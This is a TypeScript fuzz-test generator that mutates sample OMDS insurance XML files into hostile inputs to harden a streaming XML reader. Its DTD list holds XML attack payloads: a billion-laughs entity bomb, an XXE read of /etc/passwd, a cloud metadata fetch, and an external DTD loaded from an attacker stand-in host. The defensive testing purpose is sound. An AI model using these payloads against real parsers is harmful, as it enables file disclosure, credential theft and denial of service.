/**
 * Hostile OMDS files grown from the project's own OMDS samples (the built-in interface's
 * `beispiele/`): entity expansion ("billion laughs") and external entities, nesting 10,000 deep
 * inside a record and beside it, attributes and texts of megabytes, encodings declared and
 * delivered differently, stray characters and cut-out spans, contracts repeated.
 */
import { readFileSync } from 'node:fs';
import { fc } from '@fast-check/vitest';
import { eingebautesBeispiel } from '@lieferdesk/test/fixtures';
import { DOMParser } from '@xmldom/xmldom';
import iconv from 'iconv-lite';

export const XML_SAMEN: readonly string[] = [
  'omds-bestand-2024-03.xml',
  'omds-bestand-2024-03-fehlerhaft.xml',
].map((name) => readFileSync(eingebautesBeispiel(name), 'utf8'));

const LACHEN = [
  '<!DOCTYPE OMDS [',
  '<!ENTITY a "hahahahahahahahahaha">',
  ...Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`,
  ),
  ']>',
].join('\n');

/** Declarations the reader must refuse before any parser sees them. */
const DTDS = [
  LACHEN,
  '<!DOCTYPE OMDS [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE OMDS SYSTEM "http://169.254.169.254/latest/meta-data/">',
  '<!DOCTYPE OMDS [<!ENTITY % p SYSTEM "http://angreifer.example/x.dtd"> %p;]>',
  '<!doctype OMDS [<!entity x "y">]>',
  '<! DOCTYPE OMDS>',
];

export type XmlMutation =
  | { art: 'dtd'; welche: number; bezug: string }
  | { art: 'tief'; tiefe: number; imSatz: boolean; satz: number }
  | { art: 'attribut'; satz: number; bytes: number; zeichen: string }
  | { art: 'text'; satz: number; bytes: number; zeichen: string }
  | { art: 'einfuegen'; stelle: number; text: string }
  | { art: 'ausschneiden'; stelle: number; laenge: number }
  | { art: 'doppeln'; satz: number };

export const xmlMutation: fc.Arbitrary<XmlMutation> = fc.oneof(
  fc.record({
    art: fc.constant('dtd' as const),
    welche: fc.nat({ max: DTDS.length - 1 }),
    bezug: fc.constantFrom('&j;', '&xxe;', '', '&a;'),
  }),
  fc.record({
    art: fc.constant('tief' as const),
    tiefe: fc.constantFrom(10, 65, 1000, 10_000),
    imSatz: fc.boolean(),
    satz: fc.nat(),
  }),
  fc.record({
    art: fc.constant('attribut' as const),
    satz: fc.nat(),
    bytes: fc.constantFrom(1024, 100_000, 400_000, 2_000_000),
    zeichen: fc.constantFrom('A', 'ä', '€', '&amp;', ' '),
  }),
  fc.record({
    art: fc.constant('text' as const),
    satz: fc.nat(),
    bytes: fc.constantFrom(1024, 400_000, 3_000_000),
    zeichen: fc.constantFrom('x', 'ü', '&lt;', '\n'),
  }),
  {
    arbitrary: fc.record({
      art: fc.constant('einfuegen' as const),
      stelle: fc.nat(),
      text: fc.oneof(
        fc.string({ maxLength: 10 }),
        fc.constantFrom(
          '<',
          '&',
          '"',
          "'",
          ']]>',
          '<!--',
          '\u0000',
          '\uFFFE',
          '&#0;',
          '&#x110000;',
          '&unbekannt;',
          // What xmldom lets pass inside a start tag (and the record builder once could not follow).
          '\u0001',
          ' /',
          '/ ',
          '//',
          '\u00A0',
        ),
      ),
    }),
    weight: 4,
  },
  {
    arbitrary: fc.record({
      art: fc.constant('ausschneiden' as const),
      stelle: fc.nat(),
      laenge: fc.integer({ min: 1, max: 400 }),
    }),
    weight: 2,
  },
  fc.record({ art: fc.constant('doppeln' as const), satz: fc.nat() }),
);

export type XmlKodierung =
  'utf8' | 'utf8Bom' | 'latin1Erklaert' | 'utf16Bom' | 'latin1AlsUtf8' | 'utf16Erklaert' | 'unbekannt';

export interface XmlFall {
  samen: number;
  mutationen: XmlMutation[];
  kodierung: XmlKodierung;
  stueck: number;
}

export const xmlFall: fc.Arbitrary<XmlFall> = fc.record({
  samen: fc.nat({ max: XML_SAMEN.length - 1 }),
  mutationen: fc.array(xmlMutation, { maxLength: 4 }),
  kodierung: fc.constantFrom<XmlKodierung>(
    'utf8',
    'utf8',
    'utf8Bom',
    'latin1Erklaert',
    'utf16Bom',
    'latin1AlsUtf8',
    'utf16Erklaert',
    'unbekannt',
  ),
  stueck: fc.oneof(fc.integer({ min: 1, max: 64 }), fc.integer({ min: 65, max: 1 << 20 })),
});

/** Where the n-th (modulo their number) VERTRAG begins and where its start tag ends. */
function satzStelle(text: string, n: number): { anfang: number; tagEnde: number } | undefined {
  const anfaenge = [...text.matchAll(/<VERTRAG[\s/>]/g)].map((m) => m.index);
  if (anfaenge.length === 0) return undefined;
  const anfang = anfaenge[n % anfaenge.length]!;
  return { anfang, tagEnde: text.indexOf('>', anfang) };
}

const wiederholt = (zeichen: string, bytes: number) =>
  zeichen.repeat(Math.max(1, Math.floor(bytes / Buffer.byteLength(zeichen))));

function wende(text: string, m: XmlMutation): string {
  switch (m.art) {
    case 'dtd': {
      const nachDeklaration = text.startsWith('<?xml') ? text.indexOf('?>') + 2 : 0;
      const mitBezug = text.replace('VUNr="042"', `VUNr="042${m.bezug}"`);
      return mitBezug.slice(0, nachDeklaration) + '\n' + DTDS[m.welche] + mitBezug.slice(nachDeklaration);
    }
    case 'tief': {
      const auf = '<T a="1">'.repeat(m.tiefe);
      const zu = '</T>'.repeat(m.tiefe);
      const s = m.imSatz ? satzStelle(text, m.satz) : undefined;
      const wo = s && !text.startsWith('/', s.tagEnde - 1) ? s.tagEnde + 1 : text.lastIndexOf('</PAKET>');
      return wo < 0 ? text : text.slice(0, wo) + auf + 'tief' + zu + text.slice(wo);
    }
    case 'attribut': {
      const s = satzStelle(text, m.satz);
      if (!s) return text;
      const tag = text.slice(s.anfang, s.tagEnde);
      const gross = wiederholt(m.zeichen, m.bytes);
      const neu = /Polizzennr="[^"]*"/.test(tag)
        ? tag.replace(/Polizzennr="[^"]*"/, `Polizzennr="${gross}"`)
        : tag.replace('<VERTRAG', `<VERTRAG Polizzennr="${gross}"`);
      return text.slice(0, s.anfang) + neu + text.slice(s.tagEnde);
    }
    case 'text': {
      const s = satzStelle(text, m.satz);
      if (!s || text[s.tagEnde - 1] === '/') return text;
      return text.slice(0, s.tagEnde + 1) + wiederholt(m.zeichen, m.bytes) + text.slice(s.tagEnde + 1);
    }
    case 'einfuegen': {
      const s = m.stelle % (text.length + 1);
      return text.slice(0, s) + m.text + text.slice(s);
    }
    case 'ausschneiden': {
      const s = m.stelle % (text.length + 1);
      return text.slice(0, s) + text.slice(s + m.laenge);
    }
    case 'doppeln': {
      const s = satzStelle(text, m.satz);
      if (!s) return text;
      const ende = text.indexOf('</VERTRAG>', s.anfang);
      if (ende < 0) return text;
      const satz = text.slice(s.anfang, ende + '</VERTRAG>'.length);
      return text.slice(0, s.anfang) + satz + satz + text.slice(s.anfang);
    }
  }
}

const mitDeklaration = (text: string, kodierung: string) =>
  text.replace(/^<\?xml[^>]*\?>/, `<?xml version="1.0" encoding="${kodierung}"?>`);

/** The hostile file's bytes. */
export function xmlBytes(f: XmlFall): Buffer {
  let text = XML_SAMEN[f.samen]!;
  for (const m of f.mutationen) text = wende(text, m);
  switch (f.kodierung) {
    case 'utf8':
      return Buffer.from(text, 'utf8');
    case 'utf8Bom':
      return Buffer.concat([Buffer.of(0xef, 0xbb, 0xbf), Buffer.from(text, 'utf8')]);
    case 'latin1Erklaert':
      return iconv.encode(mitDeklaration(text, 'ISO-8859-1'), 'latin1');
    case 'utf16Bom':
      return Buffer.concat([Buffer.of(0xff, 0xfe), Buffer.from(mitDeklaration(text, 'UTF-16'), 'utf16le')]);
    case 'latin1AlsUtf8':
      return iconv.encode(text, 'latin1');
    case 'utf16Erklaert':
      return Buffer.from(mitDeklaration(text, 'UTF-16'), 'utf8');
    case 'unbekannt':
      return Buffer.from(mitDeklaration(text, 'x-klingonisch'), 'utf8');
  }
}

/**
 * The contracts a well-formed OMDS file delivers: the VERTRAG children of the PAKET children of
 * its OMDS root (the built-in interface's record path), counted on a DOM of the file built by
 * xmldom — another reader than the engine's streaming one.
 */
export function gelieferteVertraege(text: string): number {
  const dok = new DOMParser({ onError: () => undefined }).parseFromString(text, 'text/xml');
  const kinder = (e: { childNodes: ArrayLike<unknown> }, name: string) =>
    Array.from(
      e.childNodes as ArrayLike<{
        nodeType: number;
        localName: string;
        prefix: string | null;
        childNodes: ArrayLike<unknown>;
      }>,
    ).filter((k) => k.nodeType === 1 && k.localName === name && !k.prefix);
  const wurzel = dok.documentElement;
  if (!wurzel || wurzel.localName !== 'OMDS') return 0;
  return kinder(wurzel, 'PAKET').reduce((n, p) => n + kinder(p, 'VERTRAG').length, 0);
}
